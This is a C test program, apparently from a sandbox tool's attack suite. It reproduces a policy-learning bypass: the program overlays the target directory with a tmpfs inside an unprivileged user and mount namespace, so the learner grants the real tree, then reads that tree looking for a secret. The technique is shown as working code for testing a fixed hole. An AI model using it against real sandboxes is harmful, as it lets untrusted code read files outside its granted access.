/* learn_view.c: a learning run that walks a view of its own making.
 *
 * learning generalizes a walk from what the directory held when the program listed it: a
 * directory listed and every entry read is a glob of its entries, every subdirectory too is
 * its whole tree.  The learner read the listing at /proc/TID/root -- the program's view.  A
 * program in a mount namespace of its own (unshare(CLONE_NEWUSER|CLONE_NEWNS), no privilege
 * needed) mounts an empty tmpfs over the user's directory, writes two files and a
 * subdirectory there, and walks them: in its view it read "every file" of the directory.
 * The learned policy granted the real directory's whole tree, which the run never read
 * (now a listing in a view that is not the tracer's is not generalized).
 *
 *   learn_view DIR         (no ATTACK): the view, then the walk of it; BLOCKED: read N files
 *   ATTACK=1 learn_view DIR: the walk of DIR as it is; ESCAPED when a file holds the secret
 */
#include "attack.h"

#include <dirent.h>
#include <sched.h>
#include <sys/mount.h>

static int files, refused, last_errno;

static void walk(const char *dir) {
    DIR *d = opendir(dir);
    if (!d) {
        refused++;
        last_errno = errno;
        return;
    }
    struct dirent *e;
    while ((e = readdir(d))) {
        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, ".."))
            continue;
        char path[4096];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        struct stat st;
        if (lstat(path, &st) < 0)
            continue;
        if (S_ISDIR(st.st_mode)) {
            walk(path);
            continue;
        }
        if (!S_ISREG(st.st_mode))
            continue;
        int fd = open(path, O_RDONLY);
        if (fd < 0) {
            refused++;
            last_errno = errno;
            continue;
        }
        char buf[512] = {0};
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        files++;
        if (n > 0 && strstr(buf, SECRET_MAGIC))
            escaped("read %s: %s", path, buf);
    }
    closedir(d);
}

static void put(const char *file, const char *text) {
    FILE *f = fopen(file, "w");
    if (!f || fputs(text, f) < 0 || fclose(f) != 0)
        blocked("could not write %s: %s", file, ename(errno));
}

static void map(const char *file, unsigned id) {
    char line[64];
    snprintf(line, sizeof line, "0 %u 1\n", id);
    put(file, line);
}

int main(int argc, char **argv) {
    if (argc < 2)
        blocked("usage: learn_view DIR");
    const char *dir = argv[1];
    if (!getenv("ATTACK")) {
        unsigned uid = getuid(), gid = getgid();
        if (!getenv("HERE")) {
            if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
                skipped("unshare: %s", ename(errno));
            put("/proc/self/setgroups", "deny\n");
            map("/proc/self/uid_map", uid);
            map("/proc/self/gid_map", gid);
        }
        if (mount("none", dir, "tmpfs", 0, NULL) < 0)
            skipped("mount tmpfs: %s", ename(errno));
        char path[4096];
        snprintf(path, sizeof path, "%s/a", dir);
        put(path, "a\n");
        snprintf(path, sizeof path, "%s/.b", dir);
        put(path, "b\n");
        snprintf(path, sizeof path, "%s/sub", dir);
        if (mkdir(path, 0700) < 0)
            blocked("mkdir %s: %s", path, ename(errno));
        snprintf(path, sizeof path, "%s/sub/c", dir);
        put(path, "c\n");
        snprintf(path, sizeof path, "%s/sub/d", dir);
        put(path, "d\n");
    }
    walk(dir);
    if (!getenv("ATTACK") && getenv("HERE"))
        umount2(dir, MNT_DETACH);
    blocked("read %d files, %d refused (last: %s)", files, refused,
            refused ? ename(last_errno) : "-");
}
